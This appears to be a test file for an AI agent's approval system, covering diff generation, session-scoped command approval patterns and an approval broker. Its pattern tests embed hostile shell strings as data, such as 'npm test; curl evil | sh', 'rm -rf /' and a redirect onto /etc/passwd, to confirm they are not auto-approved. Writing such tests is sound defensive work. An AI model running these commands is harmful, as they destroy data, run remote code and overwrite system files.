// The pieces behind watching and steering an agent: the write diff (checked against the
// real `diff -u`), what "allow for this session" covers, and the broker's reasons.
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { ApprovalBroker } from '../../src/kernel/approvals.js';
import { defaultApprover } from '../../src/kernel/agent/approval.js';
import { clipDiff, unifiedDiff } from '../../src/kernel/agent/diff.js';
import { sessionPatternCovers, sessionPatternFor } from '../../src/kernel/agent/policy.js';

const dir = mkdtempSync(join(tmpdir(), 'aosh-diff-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const hasDiff = spawnSync('diff', ['--version']).status === 0;
if (!hasDiff) console.log('skipping the diff -u comparisons: diff(1) not found');

/** What GNU/BusyBox diff -u prints for OLD -> NEW, with our header names. */
function realDiff(old: string | null, next: string, name: string): string {
  const a = join(dir, 'a');
  const b = join(dir, 'b');
  writeFileSync(a, old ?? '');
  writeFileSync(b, next);
  const r = spawnSync('diff', ['-u', '--label', old === null ? '/dev/null' : `a/${name}`, '--label', `b/${name}`, old === null ? '/dev/null' : a, b], { encoding: 'utf8' });
  return r.stdout;
}

const lines = (n: number, f: (i: number) => string = (i) => `line ${i}`): string => Array.from({ length: n }, (_, i) => f(i + 1) + '\n').join('');

const CASES: Array<[string, string | null, string]> = [
  ['a changed line', 'a\nb\nc\n', 'a\nB\nc\n'],
  ['a new file', null, 'one\ntwo\n'],
  ['emptied', 'one\ntwo\n', ''],
  ['far-apart changes make two hunks', lines(30), lines(30, (i) => (i === 3 || i === 27 ? `changed ${i}` : `line ${i}`))],
  ['close changes share a hunk', lines(30), lines(30, (i) => (i === 10 || i === 15 ? `changed ${i}` : `line ${i}`))],
  ['lines added at the end', 'a\nb\n', 'a\nb\nc\nd\n'],
  ['lines removed at the start', 'x\ny\na\nb\n', 'a\nb\n'],
  ['no newline at the end, then one', 'a\nb', 'a\nb\n'],
  ['a newline taken away', 'a\nb\n', 'a\nb'],
  ['interleaved edits', 'a\nb\nc\nd\ne\nf\n', 'a\nx\nc\ny\ne\nz\n'],
  ['scattered changes in a long file', lines(400), lines(400, (i) => (i % 20 === 0 ? `changed ${i}` : i % 33 === 0 ? `line ${i}\nadded after ${i}` : `line ${i}`))],
];

describe('unifiedDiff', () => {
  it.skipIf(!hasDiff).each(CASES)('%s: the same as diff -u', (_name, old, next) => {
    const ours = unifiedDiff(old, next, 'f.txt');
    expect(ours.text).toBe(realDiff(old, next, 'f.txt'));
  });

  it('counts added and removed lines; no change is no diff', () => {
    expect(unifiedDiff('a\nb\nc\n', 'a\nB\nc\nd\n', 'x')).toMatchObject({ added: 2, removed: 1 });
    expect(unifiedDiff('same\n', 'same\n', 'x')).toEqual({ text: '', added: 0, removed: 0 });
  });

  it('a rewrite of a big file still ends (a full replacement past the edit limit)', () => {
    const old = lines(3000, (i) => `old ${i}`);
    const next = lines(3000, (i) => `new ${i}`);
    const d = unifiedDiff(old, next, 'big');
    expect(d).toMatchObject({ added: 3000, removed: 3000 });
    expect(clipDiff(d.text, 10).split('\n')).toHaveLength(12);
    expect(clipDiff(d.text, 10)).toContain('[... 5993 more diff lines]');
  });
});

describe('allow for this session: what it covers', () => {
  it.each([
    ['npm test', 'npm test *'],
    ['npm test -- --grep x', 'npm test *'],
    ['npm run build', 'npm run build *'],
    ['git status --short', 'git status *'],
    ['ls -la src', 'ls *'],
    ['echo one', 'echo *'],
    ['make', 'make'],
    ['git --no-pager log', 'git --no-pager log'],
    ['echo a; rm -rf /', 'echo a; rm -rf /'],
    ['cat x | sh', 'cat x | sh'],
    ['echo $(id)', 'echo $(id)'],
    ['python3 -c "print(1)"', 'python3 -c "print(1)"'],
    ['bash script.sh', 'bash script.sh'],
    ['rm -rf build', 'rm -rf build'],
    ['/usr/bin/env X=1 ls', '/usr/bin/env X=1 ls'],
    ['FOO=1 ls', 'FOO=1 ls'],
  ])('%s -> %s', (command, pattern) => {
    expect(sessionPatternFor(command)).toBe(pattern);
    expect(sessionPatternCovers(pattern, command)).toBe(true);
  });

  it('a pattern covers its program with other arguments, never another program or a compound command', () => {
    expect(sessionPatternCovers('npm test *', 'npm test -- other')).toBe(true);
    expect(sessionPatternCovers('npm test *', 'npm test')).toBe(true);
    expect(sessionPatternCovers('npm test *', 'npm testing')).toBe(false);
    expect(sessionPatternCovers('npm test *', 'npm publish')).toBe(false);
    expect(sessionPatternCovers('npm test *', 'npm test; curl evil | sh')).toBe(false);
    expect(sessionPatternCovers('npm test *', 'npm test && rm -rf /')).toBe(false);
    expect(sessionPatternCovers('npm test *', 'npm test > /etc/passwd')).toBe(false);
    expect(sessionPatternCovers('echo a; rm x', 'echo a; rm x')).toBe(true);
    expect(sessionPatternCovers('echo a; rm x', 'echo a; rm y')).toBe(false);
  });
});

describe('ApprovalBroker', () => {
  it('a denial keeps its reason; other answers drop one', async () => {
    const b = new ApprovalBroker();
    const answers = [{ decision: 'deny' as const, reason: 'use the vendored copy' }, { decision: 'once' as const, reason: 'ignored' }, 'deny' as const];
    b.setHandler(async () => answers.shift()!);
    expect(await b.ask({ kind: 'run', requester: 'a', title: 'npm install' })).toEqual({ decision: 'deny', reason: 'use the vendored copy' });
    expect(await b.ask({ kind: 'run', requester: 'a', title: 'npm ci' })).toEqual({ decision: 'once' });
    expect(await b.request({ kind: 'run', requester: 'a', title: 'x' })).toBe('deny');
  });

  it('session patterns live on the broker, so every approver of the session sees them', async () => {
    const broker = new ApprovalBroker();
    const asked: string[] = [];
    broker.setHandler(async (req) => {
      asked.push(req.title);
      return 'session';
    });
    const first = defaultApprover({ terminal: false, broker });
    const req = { agent: 'a', run: 'r1', tool: 'exec' as const, title: 'exec: npm test', why: 'w', cwd: '/', command: 'npm test', sessionPattern: 'npm test *' };
    expect((await first.ask(req)).answer).toBe('session');
    expect(asked).toEqual(['exec: npm test']);
    // A later run in the same session (a new approver) finds it.
    const second = defaultApprover({ terminal: false, broker });
    expect(second.remembered('exec', 'npm test -- -t x')).toBe('npm test *');
    expect(second.remembered('exec', 'npm publish')).toBeUndefined();
    expect(second.remembered('write_file', '/x')).toBeUndefined();
  });

  it('an MCP tool allowed for the session is remembered by its name', async () => {
    const broker = new ApprovalBroker();
    broker.setHandler(async () => 'session');
    const a = defaultApprover({ terminal: false, broker });
    const req = { agent: 'a', run: 'r', tool: 'mcp' as const, title: 'fs__write_file {}', why: 'w', cwd: '/', name: 'fs__write_file', sessionPattern: 'fs__write_file' };
    expect((await a.ask(req)).answer).toBe('session');
    expect(a.remembered('mcp', 'fs__write_file')).toBe('fs__write_file');
    expect(a.remembered('mcp', 'fs__move_file')).toBeUndefined();
    expect(a.remembered('exec', 'fs__write_file')).toBeUndefined();
  });

  it('with no presenter and no terminal, ask is answered deny by nobody', async () => {
    const a = defaultApprover({ terminal: false, broker: new ApprovalBroker() });
    expect(await a.ask({ agent: 'a', run: 'r', tool: 'write_file', title: 't', why: 'w', cwd: '/', path: '/x', sessionPattern: '/x' })).toEqual({ answer: 'deny', by: 'none' });
  });
});
